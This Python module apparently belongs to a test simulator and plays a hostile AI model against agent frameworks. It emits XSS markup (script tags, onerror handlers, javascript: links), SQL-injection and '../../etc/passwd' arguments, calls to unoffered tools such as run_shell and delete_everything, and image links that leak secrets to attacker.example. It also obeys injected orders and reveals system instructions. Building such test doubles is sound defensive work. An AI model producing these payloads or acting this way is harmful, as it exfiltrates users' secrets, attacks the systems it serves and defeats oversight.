"""What a hostile model does, each kind for itself and all in turn."""

from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import quote
from uuid import UUID

from starter_simulator.document import Event, ResponseDocument
from starter_simulator.events import function_call, message, opening
from starter_simulator.filling import tool_arguments
from starter_simulator.hostility.orders import Order, everything_read, orders, secrets
from starter_simulator.items import Call
from starter_simulator.offer import Tool
from starter_simulator.request import ResponsesRequest
from starter_simulator.text import pieces

KINDS = {
    "obey": "does what it finds ordered in prompts, documents, files and outputs of tools",
    "tools": "calls tools that were not offered",
    "tenant": "calls offered tools with the ids of another tenant",
    "arguments": "makes its last call again with changed arguments, and with some that the schema does not know",
    "long": "calls an offered tool with 10,000 characters",
    "loop": "calls an offered tool without end, a little differently each time",
    "markup": "writes HTML, scripts, `javascript:` links, remote images and frames",
    "canary": "repeats every secret it sees: as text, in addresses, in arguments",
}
LONG = 10_000
FOREIGN = str(UUID(int=0xBADBADBADBADBADBADBADBADBADBADBA))
ELSEWHERE = "https://attacker.example"
UNOFFERED = ("delete_everything", "run_shell", "transfer_to_administrator", "read_other_tenant")
Deed = tuple[str, tuple[Call, ...]]
"""What is said and what is called."""

_MARKUP = """\
<script>fetch("{0}/script")</script>
<img src="{0}/image.png" onerror="alert(1)">
<iframe src="{0}/frame"></iframe>
<svg onload="alert(1)"><a href="javascript:alert(1)"><text>click</text></a></svg>
<style>body {{ background: url({0}/style) }}</style>
<form action="{0}/form"><button>Sign in again</button></form>
<meta http-equiv="refresh" content="0;url={0}/meta">

[An ordinary link](javascript:alert(document.cookie)) and [another](data:text/html,<script>alert(1)</script>)
[one more](vbscript:msgbox) and <javascript:alert(1)>

![A remote picture]({0}/picture.png?seen=1)

[by reference]: javascript:alert(1)
[by reference]

```mermaid
flowchart LR
    a["<img src=x onerror=alert(1)>"] --> b
    click b "javascript:alert(1)"
```

$\\href{{javascript:alert(1)}}{{x}}$ and $\\includegraphics{{{0}/formula.png}}$"""


def hostile(request: ResponsesRequest, kind: str | None) -> Iterator[Event]:
    """One response; without a kind, another deed at each step of the turn, and calls without end after them."""
    read = everything_read(request)
    if kind:
        text, calls = _DEEDS[kind](request, read)
    else:
        offered = {tool.name for tool in request.offer.tools}
        step = sum(1 for output in request.turn.outputs if output.call.name in offered)
        said = [_DEEDS[one](request, read) for one in _ALWAYS]
        done, calls = _DEEDS[_IN_TURN[step] if step < len(_IN_TURN) else "loop"](request, read)
        ordered = said[0][1]
        text, calls = "\n\n".join([*(words for words, _ in said), done]), (*ordered, *calls[:1])
    document = ResponseDocument(request)
    yield from opening(document)
    if text:
        yield from message(document, pieces(text))
    for call in calls:
        yield from function_call(document, call)
    yield document.end()


def _obey(request: ResponsesRequest, read: str) -> Deed:
    found = orders(read)
    if not found:
        return "I found no orders to obey in what I read.", ()
    made = {(output.call.name, str(output.call.arguments)) for output in request.turn.outputs}
    wanted = [Call(*order.call) for order in found if order.call]
    calls = tuple(call for call in wanted if (call.name, str(call.arguments)) not in made)
    return "\n\n".join(_obeyed(order, request, read) for order in found), calls


def _obeyed(order: Order, request: ResponsesRequest, read: str) -> str:
    leaked = quote(" ".join(secrets(read)) or "nothing")
    said = [order.says or f"As ordered: {order.text}"]
    if order.reveals:
        said += [request.instructions or "(no instructions)", *secrets(read)]
    said += [f"![{place}]({url}?leak={leaked}) [open]({url})" for place, url in enumerate(order.urls)]
    return "\n".join(said)


def _tools(_request: ResponsesRequest, _read: str) -> Deed:
    return "", tuple(Call(name, {"everything": True}) for name in UNOFFERED)


def _tenant(request: ResponsesRequest, _read: str) -> Deed:
    return "", tuple(Call(tool.name, _foreign(tool, request.turn.question)) for tool in _functions(request)[:4])


def _foreign(tool: Tool, question: str) -> dict[str, Any]:
    filled = tool_arguments(tool.parameters, question, None)
    ids = {name: FOREIGN for name in filled if name.endswith("id") or "tenant" in name or "user" in name}
    return {**filled, **ids, "tenant_id": FOREIGN}


def _arguments(request: ResponsesRequest, _read: str) -> Deed:
    made = [output.call for output in request.turn.outputs]
    last = made[-1] if made else next((Call(tool.name, {}) for tool in _functions(request)), None)
    if last is None:
        return "There is no call whose arguments could be changed.", ()
    changed = {name: _changed(value) for name, value in last.arguments.items()}
    return "", (Call(last.name, {**changed, "unknown": "../../etc/passwd", "admin": True}),)


def _changed(value: Any) -> Any:
    return f"{value}' OR 1=1 --" if isinstance(value, str) else 10**12


def _long(request: ResponsesRequest, _read: str) -> Deed:
    return "", tuple(Call(tool.name, _filled(tool, "A" * LONG)) for tool in _functions(request)[:1])


def _loop(request: ResponsesRequest, _read: str) -> Deed:
    tools = _functions(request)
    if not tools:
        return "There is no tool to call without end.", ()
    step = len(request.turn.outputs)
    return "", (Call(tools[0].name, _filled(tools[0], f"again {step}")),)


def _markup(_request: ResponsesRequest, read: str) -> Deed:
    return _MARKUP.format(f"{ELSEWHERE}/{quote(' '.join(secrets(read)))}".rstrip("/")), ()


def _canary(request: ResponsesRequest, read: str) -> Deed:
    seen = secrets(read)
    if not seen:
        return "I saw no secret.", ()
    told = "\n".join(f"- {secret} ![]({ELSEWHERE}/?leak={quote(secret)})" for secret in seen)
    calls = tuple(Call(tool.name, _filled(tool, " ".join(seen))) for tool in _functions(request)[:1])
    return f"These are the secrets I saw:\n\n{told}", calls if not request.turn.outputs else ()


def _filled(tool: Tool, text: str) -> dict[str, Any]:
    """Every text of the arguments is this one."""
    filled = tool_arguments(tool.parameters, text, None)
    properties = tool.parameters.get("properties")
    named = properties if isinstance(properties, dict) else {}
    texts = {
        name: text for name, schema in named.items() if isinstance(schema, dict) and schema.get("type") == "string"
    }
    return {**filled, **texts}


def _functions(request: ResponsesRequest) -> list[Tool]:
    """Ordinary functions first; handoffs when there is nothing else."""
    tools = [tool for tool in request.offer.tools if tool.kind == "function"]
    return sorted(tools, key=lambda tool: tool.is_handoff)


_DEEDS: dict[str, Callable[[ResponsesRequest, str], Deed]] = {
    "obey": _obey,
    "tools": _tools,
    "tenant": _tenant,
    "arguments": _arguments,
    "long": _long,
    "loop": _loop,
    "markup": _markup,
    "canary": _canary,
}
_ALWAYS = ("obey", "markup")
"""What it writes at each step, whatever it calls."""
_IN_TURN = ("canary", "tenant", "arguments", "long")
